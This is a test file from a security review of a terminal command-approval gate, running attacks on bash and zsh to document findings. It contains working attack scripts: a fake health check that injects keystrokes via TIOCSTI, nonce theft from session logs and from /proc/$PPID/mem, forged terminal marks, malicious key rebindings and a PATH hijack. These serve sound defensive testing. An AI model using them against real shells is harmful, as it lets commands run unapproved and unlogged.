/**
 * Review, foothold 2: an approved, harmless-looking command (a script, loading the team's
 * readline settings, a session log). Each attack runs against a real bash and a real zsh
 * through the real host. Tests marked `it.fails` demonstrate a problem on the current code:
 * the assertions state what should hold, and they do not. Flip them to `it` with the fix.
 */
import { existsSync, readFileSync } from 'node:fs'
import { afterEach, describe, expect, it } from 'vitest'
import {
  SHELLS,
  eventually,
  guardedShell,
  hasProgram,
  legacyTiocsti,
  ptraceParentAllowed,
  type Guarded,
} from './review-fixture'

/** A script that looks like a health check and leaves a job that types into the terminal later. */
const TIOCSTI_SCRIPT = `#!/bin/sh
# health check
( sleep 1; perl -e 'ioctl(STDIN, 0x5412, $_) for split //, "touch tiocsti_X\\r"' ) </dev/tty >/dev/null 2>&1 &
echo healthy
`

/** Reads the nonce from a session log kept with tee, and forges a "names" mark after the prompt. */
const FORGE_NAMES_SCRIPT = `#!/bin/sh
nonce=$(grep -ao '6973;[0-9a-f]\\{32\\}' session.log | head -n1 | cut -d';' -f2)
( sleep 1; printf '\\033]6973;%s;names;alias=;function=\\007' "$nonce" >/dev/tty ) &
echo report ok
`

/**
 * "Diagnostics" that read the shell's heap through /proc/$PPID/mem, collect every 32-hex
 * string (the nonce is one), print, and leave a job that forges a "names" mark with each
 * candidate after the next prompt (wrong candidates are merely counted as forged).
 */
const PROC_MEM_SCRIPT = String.raw`import os, re, sys, time
pid = os.getppid()
found = set()
for line in open('/proc/%d/maps' % pid):
    parts = line.split()
    if not parts[1].startswith('rw') or (len(parts) > 5 and parts[5] != '[heap]'):
        continue
    start, end = (int(x, 16) for x in parts[0].split('-'))
    try:
        with open('/proc/%d/mem' % pid, 'rb') as mem:
            mem.seek(start)
            data = mem.read(end - start)
    except OSError:
        continue
    found.update(re.findall(rb'(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])', data))
print('diagnostics ok')
sys.stdout.flush()
if os.fork() == 0:
    time.sleep(1.0)
    with open('/dev/tty', 'wb') as tty:
        for nonce in found:
            tty.write(b']6973;' + nonce + b';names;alias=;function=')
    os._exit(0)
`

/** Proposes `ls` (then withdraws it): whether the room is told it is this kind of word. */
async function lsShownAs(g: Guarded, kind: 'alias' | 'command'): Promise<boolean> {
  const p = await g.h.leader.call('gate.propose', {
    sessionId: g.sessionId,
    text: 'ls',
    proposerId: 'bob',
  })
  await g.h.leader.call('gate.withdraw', { sessionId: g.sessionId, proposalId: p.id })
  return p.context.firstWordKind === kind
}

for (const shell of SHELLS) {
  describe(`an approved command on ${shell.name}`, () => {
    let g: Guarded
    afterEach(() => g?.h.host.dispose())

    // FINDING (critical on kernels with dev.tty.legacy_tiocsti=1, as here): a background job
    // left by an approved script pushes a line into the terminal's input with TIOCSTI after
    // the prompt's drain; the shell runs it at the prompt, no approval asked.
    // KNOWN LIMIT (still fails): nothing in a user's shell can stop a program of that user
    // from pushing input on such a kernel. What the host does instead: it warns at start
    // when TIOCSTI is allowed (sysctl dev.tty.legacy_tiocsti=0 closes it), and the gate
    // records such a command as UNAPPROVED and raises the alarm (the next test).
    it.skipIf(!legacyTiocsti() || !hasProgram('perl')).fails(
      'cannot leave a job that types an unapproved line at the prompt (TIOCSTI)',
      async () => {
        g = await guardedShell(shell)
        g.put('check.sh', TIOCSTI_SCRIPT, 0o755)
        await g.runToEnd('./check.sh')
        expect(await eventually(() => existsSync(g.file('tiocsti_X')))).toBe(false)
      },
    )

    // FINDING (high): whatever made the shell run a line the gate did not write (TIOCSTI
    // above, a rebound key below), the gate sees its C/D marks with nothing in flight and
    // records nothing: the command log says nothing ran.
    it.skipIf(!legacyTiocsti() || !hasProgram('perl'))(
      'records a command the shell ran that the gate did not write',
      async () => {
        g = await guardedShell(shell)
        g.put('check.sh', TIOCSTI_SCRIPT, 0o755)
        await g.runToEnd('./check.sh')
        // (Assumes the line still gets in: with TIOCSTI fixed, trigger it another way.)
        await g.waitFor(() => expect(existsSync(g.file('tiocsti_X'))).toBe(true), 8_000)
        const log = g.h.leader.log
        const after = log.findIndex((e) => e.kind === 'finished') + 1
        expect(await eventually(() => log.length > after, 3_000)).toBe(true)
      },
    )

    // FINDING (high): the clear-line key the gate sends before every approved command is an
    // ordinary key binding the session can change. Rebound to a macro, it types and runs
    // its own line; the approved text is then discarded by the next prompt's drain, and the
    // log records the approved command as finished with exit code 0.
    it('cannot rebind the clear-line key so that the next approved command runs something else', async () => {
      g = await guardedShell(shell)
      if (shell.name === 'bash') {
        g.put('team.inputrc', `"\\e[6973~": "touch rebind_X\\r"\n`)
        await g.runToEnd('bind -f ./team.inputrc')
      } else {
        g.put('team.zsh', `bindkey -s '\\e[6973~' 'touch rebind_X\\n'\n`)
        await g.runToEnd('source ./team.zsh')
      }
      const entry = await g.runToEnd('echo approved > approved_ok')
      expect(entry.exitCode).toBe(0) // what the log says
      expect(existsSync(g.file('rebind_X'))).toBe(false)
      expect(existsSync(g.file('approved_ok'))).toBe(true)
    })

    // FINDING (high): the same with Enter: the approved line is extended before it is
    // accepted, and the log shows only the approved text.
    it('cannot rebind Enter so that approved lines carry a tail', async () => {
      g = await guardedShell(shell)
      if (shell.name === 'bash') {
        g.put('team.inputrc', `"\\C-m": "; touch enter_X\\C-j"\n`)
        await g.runToEnd('bind -f ./team.inputrc')
      } else {
        g.put('team.zsh', `bindkey -s '^M' '; touch enter_X^J'\n`)
        await g.runToEnd('source ./team.zsh')
      }
      await g.runToEnd('echo approved > approved_ok')
      expect(existsSync(g.file('approved_ok'))).toBe(true)
      expect(existsSync(g.file('enter_X'))).toBe(false)
    })

    // FINDING (high): a session log (`exec > >(tee -a session.log)`, a common habit) writes
    // every mark, nonce included, into a file any later program reads; the nonce never
    // changes, and marks are believed at any time (even after the prompt). A script then
    // forges a "names" report that hides an alias: `ls` is shown as a plain command, is
    // approved as such, and runs the alias.
    it('cannot learn the nonce from a session log and hide an alias', async () => {
      g = await guardedShell(shell, {
        homeFiles: { [shell.rc]: "alias ls='touch alias_X'\n" },
      })
      expect(await lsShownAs(g, 'alias')).toBe(true) // the integration reports it

      await g.runToEnd('exec > >(tee -a session.log)')
      expect(readFileSync(g.file('session.log'), 'latin1')).toMatch(/6973;[0-9a-f]{32}/)
      g.put('report.sh', FORGE_NAMES_SCRIPT, 0o755)
      await g.runToEnd('./report.sh')
      expect(await eventually(() => lsShownAs(g, 'command'))).toBe(false)
    })

    // FINDING (high): the names report leaves out the integration's own functions
    // (`__warroom*`), and nothing checks them: a sourced file that redefines one (here the
    // drain) keeps every mark authenticated, is invisible to the room, and from then on a
    // whole line typed while a command runs (keys pass to the running command) is run by
    // the shell at the next prompt, unapproved and unrecorded. Redefining __warroom_report
    // forges the context and the alias/function names the same way.
    // bash: the integration's functions are read-only now. KNOWN LIMIT on zsh (still fails):
    // zsh has no read-only functions, so a sourced file can still redefine them.
    const zshLimit = shell.name === 'zsh'
    ;(zshLimit ? it.fails : it)(
      'cannot switch off the drain: lines typed during a command never run',
      async () => {
        g = await guardedShell(shell)
        g.put(
          'team-env.sh',
          shell.name === 'bash'
            ? '__warroom_drain() { :; }\n'
            : '__warroom_precmd_end() { emulate -L zsh; __warroom_report; __warroom_mark A; }\n',
        )
        await g.runToEnd('. ./team-env.sh')
        expect((await g.state()).integration).toBe('on')
        const p = await g.h.runApproved(g.sessionId, 'sleep 1')
        await g.waitFor(async () => expect((await g.state()).keysPass).toBe(true))
        expect((await g.write('touch typeahead_X\r')).refused).toBeNull() // to the running sleep
        await g.h.finished(p.id)
        await g.h.ready(g.sessionId)
        expect(await eventually(() => existsSync(g.file('typeahead_X')), 3_000)).toBe(false)
      },
    )

    // FINDING (high, same class): without a session log, a program the shell started reads
    // the nonce out of the shell's own memory (/proc/$PPID/mem: same user, no Yama ptrace
    // restriction here) and forges the same report.
    it.skipIf(!ptraceParentAllowed() || !hasProgram('python3'))(
      'cannot read the nonce from the shell’s memory and hide an alias',
      async () => {
        g = await guardedShell(shell, {
          homeFiles: { [shell.rc]: "alias ls='touch alias_X'\n" },
        })
        expect(await lsShownAs(g, 'alias')).toBe(true)
        g.put('diag.py', PROC_MEM_SCRIPT)
        await g.runToEnd('python3 ./diag.py')
        expect(await eventually(() => lsShownAs(g, 'command'))).toBe(false)
      },
    )

    // FINDING (medium): the context an approval covers leaves out PATH (and the DEBUG trap,
    // hashed paths, key bindings): a command approved before `. ./activate` runs another
    // program after it, and its approval is not voided.
    it('voids an approval when what the first word resolves to changed', async () => {
      g = await guardedShell(shell)
      const { h, sessionId } = g
      g.put('activate', 'PATH="$PWD/bin:$PATH"\n')
      const { mkdirSync } = await import('node:fs')
      mkdirSync(g.file('bin'))
      g.put('bin/uptime', '#!/bin/sh\ntouch path_X\n', 0o755)
      const p = await h.leader.call('gate.propose', {
        sessionId,
        text: 'uptime',
        proposerId: 'bob',
      })
      await h.leader.call('gate.approve', {
        sessionId,
        proposalId: p.id,
        hash: p.hash,
        onBehalfOf: 'carol',
      })
      await g.runToEnd('. ./activate')
      const run = h.leader.call('gate.run', { sessionId, proposalId: p.id, hash: p.hash }).then(
        () => 'ran',
        () => 'refused',
      )
      if ((await run) === 'ran') await h.finished(p.id)
      expect(existsSync(g.file('path_X'))).toBe(false)
    })
  })
}
